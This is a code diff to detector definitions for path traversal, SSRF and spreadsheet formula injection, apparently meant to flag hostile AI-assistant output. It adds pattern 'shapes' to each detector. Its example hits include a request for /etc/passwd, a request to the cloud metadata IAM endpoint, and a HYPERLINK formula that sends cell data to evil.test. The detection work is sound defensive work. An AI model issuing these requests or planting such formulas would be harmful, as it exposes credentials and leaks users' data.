@@ -51,6 +51,7 @@ export const pathTraversal = defineDetector({
         }),
       ),
     ),
+  shapes: TRAVERSAL.map(([pattern]) => ({ pattern })),
   examples: {
     hit: [
       { role: 'assistant', text: 'open ../../../../etc/passwd' },
@@ -99,6 +100,7 @@ export const ssrfUrl = defineDetector({
       }),
       ...all(window, SCHEME, () => ({ confidence: 0.7, note: 'An address of an unusual scheme' })),
     ]),
+  shapes: [{ pattern: INSIDE }, { pattern: SCHEME }],
   examples: {
     hit: [
       { role: 'assistant', text: 'GET http://169.254.169.254/latest/meta-data/iam/' },
@@ -153,6 +155,7 @@ export const formulaInjection = defineDetector({
   reach: { before: 8, after: 330 },
   detect: (window) =>
     all(window, FORMULA, () => ({ confidence: 0.8, note: 'A formula that fetches or runs something' })),
+  shapes: [{ pattern: FORMULA }],
   examples: {
     hit: [
       'name,note\nAda,=HYPERLINK("https://evil.test/?"&A1,"open")',
